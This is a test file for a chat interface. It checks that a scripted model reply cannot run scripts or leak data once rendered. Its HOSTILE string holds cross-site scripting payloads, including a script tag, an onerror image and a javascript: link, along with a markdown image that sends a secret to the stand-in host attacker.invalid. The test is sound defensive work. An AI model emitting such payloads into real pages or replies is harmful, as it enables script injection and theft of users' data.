import { reply } from '@palimpsest/testing'
import { expect, test } from '../fixtures/test.ts'

const HOSTILE = [
  '<script>window.hacked = true</script>',
  '<img src="x" onerror="window.hacked = true">',
  '[click](javascript:window.hacked=true)',
  '![leak](https://attacker.invalid/?q=secret)',
  'The end.',
].join('\n\n')

test('SX-3 the content of a reply can neither run scripts nor leak data', async ({ chat, product, page }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  product.provider.script(reply({ text: HOSTILE }))
  await chat.open()
  await chat.send('Be hostile')
  await expect(chat.message('The end.')).toBeVisible()
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(await chat.thread.locator('script, img[src^="http"], a[href^="javascript"]').count()).toBe(0)
  expect(asked.filter((url) => url.includes('attacker.invalid'))).toEqual([])
  await expect(page.getByRole('button', { name: 'Load image from attacker.invalid' })).toBeVisible()
})
